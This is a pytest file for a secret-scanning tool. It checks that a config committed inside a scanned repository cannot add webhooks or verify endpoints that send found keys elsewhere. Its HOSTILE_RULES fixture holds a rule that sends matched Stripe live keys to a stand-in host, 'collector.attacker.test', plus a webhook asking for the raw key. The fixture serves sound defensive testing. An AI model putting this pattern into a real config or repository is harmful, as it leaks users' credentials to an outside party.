"""A config committed in the scanned tree (a pull request, a third-party repository) may tune detection
but must never decide where found keys go: no webhook of its own, no verify endpoint of its own."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from conftest import run_keysweep, write_user_config
from gitutil import GitRepo
from revoke_servers import ProviderServer, ReceiverServer, new_secret, random_key

from scanner.config import load_config
from scanner.assemble import build_scanner

# A rule that claims Stripe keys (longer match than the built-in rule, so overlap resolution picks it)
# and sends each one to the attacker when --verify runs.
HOSTILE_RULES = """
[[rules]]
id = "acme.stripe-mirror"
name = "n"
description = "d"
pattern = '''STRIPE_KEY = "(sk_live_[0-9a-zA-Z]{24,247})"'''
keywords = ["sk_live_"]
severity = "info"
confidence = "low"
verify = { method = "GET", url = "https://collector.attacker.test/v1/k", auth = "query", param = "k" }
examples = ['STRIPE_KEY = "sk_live_u8jzPde0IgxLd6GncfBAepfJ"']
negative_examples = ["nothing"]
"""


def hostile_tree(root: Path, webhook_url: str) -> str:
    """A project whose own config adds a verifying rule and a webhook that asks for the raw key."""
    key = random_key("sk_live_")
    (root / "app").mkdir(parents=True)
    (root / "app" / "settings.py").write_text(f'STRIPE_KEY = "{key}"\n')
    (root / "ci").mkdir()
    (root / "ci" / "rules.toml").write_text(HOSTILE_RULES)
    (root / ".keysweep.toml").write_text(
        '[rules]\nextra = ["ci/rules.toml"]\n\n'
        f'[[revoke.webhooks]]\nname = "x"\nurl = "{webhook_url}"\ninclude_secret = true\nsecret_env = "GITHUB_SHA"\n'
    )
    return key


@pytest.mark.slow
def test_a_found_config_cannot_add_a_webhook(tmp_path: Path) -> None:
    env = {"GITHUB_SHA": "3f786850e387550fdab836ed7e6dc881de23001b", "KEYSWEEP_STATE_DIR": str(tmp_path / "state")}
    with ReceiverServer(new_secret()) as attacker:
        hostile_tree(tmp_path / "pr", attacker.url + "/collect")
        result = run_keysweep("scan", "pr", "--revoke", cwd=tmp_path, env=env)
    assert attacker.seen == []
    assert result.returncode == 2 and result.stdout == ""
    assert "[revoke] ignored: a config found in the scanned tree" in result.stderr


@pytest.mark.slow
def test_the_users_webhook_still_works_beside_a_hostile_config(tmp_path: Path) -> None:
    """The PR's webhook is ignored; the user's own (trusted) one gets the key, redacted as configured."""
    secret = new_secret()
    env = {"HOOK_SECRET": secret, "GITHUB_SHA": "3f786850e387550fdab836ed7e6dc881de23001b",
           "KEYSWEEP_STATE_DIR": str(tmp_path / "state")}
    with ReceiverServer(new_secret()) as attacker, ReceiverServer(secret) as ours:
        write_user_config(f'[[revoke.webhooks]]\nname = "ours"\nurl = "{ours.url}"\nsecret_env = "HOOK_SECRET"\n')
        key = hostile_tree(tmp_path / "pr", attacker.url + "/collect")
        result = run_keysweep("scan", "pr", "--revoke", "--format", "json", cwd=tmp_path, env=env)
    assert result.returncode == 1, result.stderr
    assert attacker.seen == [] and len(ours.seen) == 1
    assert key not in ours.seen[0].body.decode()  # include_secret is the PR's wish, not the user's
    assert "[revoke] ignored" in result.stderr


@pytest.mark.slow
def test_a_found_configs_rule_loses_its_verify_block(tmp_path: Path) -> None:
    hostile_tree(tmp_path / "pr", "http://127.0.0.1:9/")
    scanner = build_scanner(load_config(None, start=tmp_path / "pr"))
    [mirror] = [rule for rule in scanner.engine.rules if rule.id == "acme.stripe-mirror"]
    assert mirror.verify is None
    assert any("acme.stripe-mirror" in n and "verify ignored" in n for n in scanner.notices)
    trusted = build_scanner(load_config(tmp_path / "pr" / ".keysweep.toml", start=tmp_path))  # --config: the user's choice
    assert [r.verify for r in trusted.engine.rules if r.id == "acme.stripe-mirror"] != [None]


@pytest.mark.slow
def test_verify_never_reaches_a_host_named_by_the_scanned_tree(tmp_path: Path) -> None:
    """With --verify, the key is checked only where the built-in Stripe rule (pointed at a local
    provider by the user's --verify-host) says; the PR's rule is not checked anywhere."""
    with ProviderServer({}) as provider:
        key = hostile_tree(tmp_path / "pr", "http://127.0.0.1:9/")
        result = run_keysweep("scan", "pr", "--verify", "--verify-host", f"stripe={provider.url}",
                              "--verify-allow-private", "--format", "json", cwd=tmp_path)
    assert "verify ignored" in result.stderr
    [finding] = [f for f in json.loads(result.stdout)["findings"] if f["path"] == "pr/app/settings.py"]
    assert "verification" not in finding or "attacker" not in json.dumps(finding["verification"])
    assert key not in result.stdout and key not in result.stderr


@pytest.mark.slow
def test_a_found_config_in_history_cannot_add_a_webhook(tmp_path: Path) -> None:
    env = {"GITHUB_SHA": "3f786850e387550fdab836ed7e6dc881de23001b", "KEYSWEEP_STATE_DIR": str(tmp_path / "state")}
    with ReceiverServer(new_secret()) as attacker:
        repo = GitRepo(tmp_path / "repo")
        hostile_tree(tmp_path / "repo", attacker.url)
        repo.commit("add settings")
        result = run_keysweep("git", str(repo.path), "--revoke", cwd=tmp_path, env=env)
    assert attacker.seen == [] and result.returncode == 2
